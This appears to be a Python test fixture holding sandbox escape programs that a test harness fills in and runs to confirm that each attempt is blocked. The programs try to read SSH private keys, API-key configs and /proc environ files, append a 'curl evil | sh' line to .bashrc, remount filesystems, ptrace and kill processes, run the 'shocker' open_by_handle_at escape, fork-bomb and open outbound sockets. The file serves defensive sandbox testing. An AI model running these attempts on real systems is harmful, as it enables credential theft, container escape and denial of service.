"""Escape programs for the sandbox: each tries to reach the user's files, processes or network.

A program prints ``ESCAPED <what>`` when an attempt works and ``blocked <what> <why>``
when it fails; the tests look for ``ESCAPED`` and for the secrets themselves. The
programs are templates: ``{home}``, ``{store}``, ``{checkout}`` (a copy the server runs
from), ``{root}`` (the harness's own checkout), ``{server}``, ``{parent}``, ``{port}`` and
``{abstract}`` are filled in by the test.
"""

from __future__ import annotations

PRELUDE = '''import ctypes, os, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def tried(what, fn):
    try:
        result = fn()
    except BaseException as exc:
        print("blocked", what, type(exc).__name__)
        return
    print("ESCAPED", what, repr(result)[:300])
def call(what, result):
    if result == -1:
        print("blocked", what, os.strerror(ctypes.get_errno()))
    else:
        print("ESCAPED", what, result)
HOME, STORE, CHECKOUT = {home!r}, {store!r}, {checkout!r}
SERVER, PARENT = {server}, {parent}
'''

ESCAPES = {
    "read the private key": "tried('id_rsa', lambda: open(HOME + '/.ssh/id_rsa').read())\n",
    "read the config with the API key": "tried('config', lambda: open(HOME + '/.config/n2f-tui/config.toml').read())\n",
    "read a dotfile": "tried('bashrc', lambda: open(HOME + '/.bashrc').read())\n",
    "list the home directory": "tried('listdir', lambda: os.listdir(HOME))\ntried('stat', lambda: os.stat(HOME))\n",
    "append to a dotfile": "tried('append', lambda: open(HOME + '/.bashrc', 'a').write('curl evil | sh\\n'))\n",
    "create a file in the home directory": "tried('create', lambda: open(HOME + '/pwned', 'w').write('x'))\n"
                                           "tried('mkdir', lambda: os.makedirs(HOME + '/.config/autostart'))\n",
    "write into the run store": "tried('results', lambda: open(STORE + '/runs/r1/results.jsonl', 'a').write('{{}}'))\n"
                                "tried('new run', lambda: os.makedirs(STORE + '/runs/pwned'))\n",
    "read the checkout": "tried('readme', lambda: open(CHECKOUT + '/README.md').read())\n"
                         "tried('server source', lambda: open(CHECKOUT + '/sessions/sandbox_server.py').read())\n"
                         "tried('the harness checkout', lambda: open({root!r} + '/README.md').read())\n"
                         "tried('sys.path', lambda: [p for p in sys.path if p.startswith((CHECKOUT, {root!r}))] or 1 / 0)\n",
    "read the environment": "tried('key in environ', lambda: os.environ['OPENAI_API_KEY'])\n"
                            "tried('home in environ', lambda: [v for v in os.environ.values() if HOME in v] or 1 / 0)\n"
                            "tried('own environ file', lambda: open('/proc/self/environ', 'rb').read())\n",
    "read /proc of the parent": "tried('server environ', lambda: open(f'/proc/{{SERVER}}/environ', 'rb').read())\n"
                                "tried('harness cmdline', lambda: open(f'/proc/{{PARENT}}/cmdline', 'rb').read())\n"
                                "tried('list /proc', lambda: os.listdir('/proc'))\n",
    "/proc/self/root and /proc/1/root": "tried('self root', lambda: os.listdir('/proc/self/root' + HOME))\n"
                                        "tried('init root', lambda: os.listdir('/proc/1/root/'))\n",
    "/proc/PID/mem of the server": "tried('mem', lambda: open(f'/proc/{{SERVER}}/mem', 'rb'))\n"
                                   "tried('/dev/mem', lambda: open('/dev/mem', 'rb'))\n",
    "symlinks out of the scratch space": "os.symlink(HOME + '/.ssh/id_rsa', 'key')\nos.symlink('/proc/self/root', 'root')\n"
                                         "tried('via key', lambda: open('key').read())\n"
                                         "tried('via root', lambda: os.listdir('root' + HOME))\n",
    "hard link to the key": "tried('link', lambda: os.link(HOME + '/.ssh/id_rsa', 'key'))\n",
    "walk up with ..": "os.chdir('../../../../..')\ntried('up', lambda: os.listdir('.' + HOME))\n"
                       "tried('root holds more', lambda: sorted(set(os.listdir('/')) - {{'usr', 'lib', 'lib64', 'lib32', "
                       "'etc', 'dev', 'tmp'}} - {{p.split('/')[1] for p in sys.path}}) or 1 / 0)\ntried('etc holds more', lambda: "
                       "sorted(set(os.listdir('/etc')) - {{'ld.so.cache'}}) or 1 / 0)\n",
    "write outside the scratch space": "tried('root', lambda: open('/pwned', 'w'))\n"
                                       "tried('usr/lib', lambda: open('/usr/lib/pwned', 'w'))\n"
                                       "tried('etc', lambda: os.mkdir('/etc/pwned'))\n"
                                       "tried('ld.so.cache', lambda: open('/etc/ld.so.cache', 'a'))\n",
    "ctypes system calls": "call('openat', libc.openat(-100, (HOME + '/.ssh/id_rsa').encode(), 0))\n"
                           "call('chroot', libc.chroot(b'/tmp'))\n",
    "mount and unmount": "call('remount / rw', libc.mount(b'none', b'/', None, 32 | 4096, None))\n"
                         "call('remount usr/lib rw', libc.mount(b'none', b'/usr/lib', None, 32 | 4096, None))\n"
                         "call('tmpfs over /usr', libc.mount(b'x', b'/usr', b'tmpfs', 0, None))\n"
                         "call('umount /tmp', libc.umount2(b'/tmp', 2))\n"
                         "call('umount /usr/lib', libc.umount2(b'/usr/lib', 2))\n",
    "a new user namespace to remount": "ok = libc.unshare(0x10000000 | 0x00020000)\n"
                                       "print('unshare', ok, os.strerror(ctypes.get_errno()))\n"
                                       "if ok == 0:\n"
                                       "    call('umount locked /usr/lib', libc.umount2(b'/usr/lib', 2))\n"
                                       "    call('remount locked rw', libc.mount(b'none', b'/usr/lib', None, 32 | 4096, None))\n"
                                       "    call('mount proc', libc.mount(b'proc', b'/tmp', b'proc', 0, None))\n"
                                       "tried('key', lambda: open(HOME + '/.ssh/id_rsa').read())\n",
    "setns into the server": "tried('ns file', lambda: os.open(f'/proc/{{SERVER}}/ns/mnt', os.O_RDONLY))\n"
                             "call('pidfd_open', libc.syscall(434, SERVER, 0))\n"
                             "call('setns fd 0', libc.setns(0, 0))\n",
    "ptrace the server": "call('PTRACE_ATTACH', libc.ptrace(16, SERVER, 0, 0))\n"
                         "call('PTRACE_ATTACH harness', libc.ptrace(16, PARENT, 0, 0))\n",
    "signal the harness": "tried('kill server', lambda: os.kill(SERVER, signal.SIGKILL))\n"
                          "tried('kill harness', lambda: os.kill(PARENT, 0))\n"
                          "tried('kill everyone', lambda: os.kill(-1, signal.SIGKILL))\n",
    "open_by_handle_at (shocker)": "import struct\nfd = os.open('/usr/lib', os.O_RDONLY)\n"
                                   "handle = struct.pack('II', 8, 1) + struct.pack('II', 2, 0)\n"
                                   "call('open_by_handle_at', libc.open_by_handle_at(fd, handle, 0))\n",
    "os.system and subprocess": "print('system', os.system('cat ' + HOME + '/.ssh/id_rsa'))\n"
                                "import subprocess\n"
                                "tried('subprocess', lambda: subprocess.run(['/bin/sh', '-c', 'id'], capture_output=True))\n",
    "fork bomb": "n = 0\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n            os._exit(0)\n"
                 "        n += 1\n    except OSError:\n        pass\nprint('ESCAPED forks' if n else 'blocked forks', n)\n",
    "threads": "import threading\ntried('thread', lambda: threading.Thread(target=print).start())\n",
    "network sockets": "tried('tcp to the harness host', lambda: socket.create_connection(('127.0.0.1', {port}), timeout=1))\n"
                       "tried('tcp out', lambda: socket.create_connection(('1.1.1.1', 53), timeout=1))\n"
                       "tried('udp out', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                       ".sendto(b'x', ('1.1.1.1', 53)))\n"
                       "tried('ipv6 out', lambda: socket.create_connection(('2606:4700:4700::1111', 53), timeout=1))\n",
    "unix sockets": "def unix(address):\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(address)\n    return s\n"
                    "tried('agent socket in home', lambda: unix(HOME + '/agent.sock'))\n"
                    "tried('abstract socket', lambda: unix({abstract!r}))\n",
}


def program(name: str, **paths: object) -> str:
    return (PRELUDE + ESCAPES[name]).format(**paths)
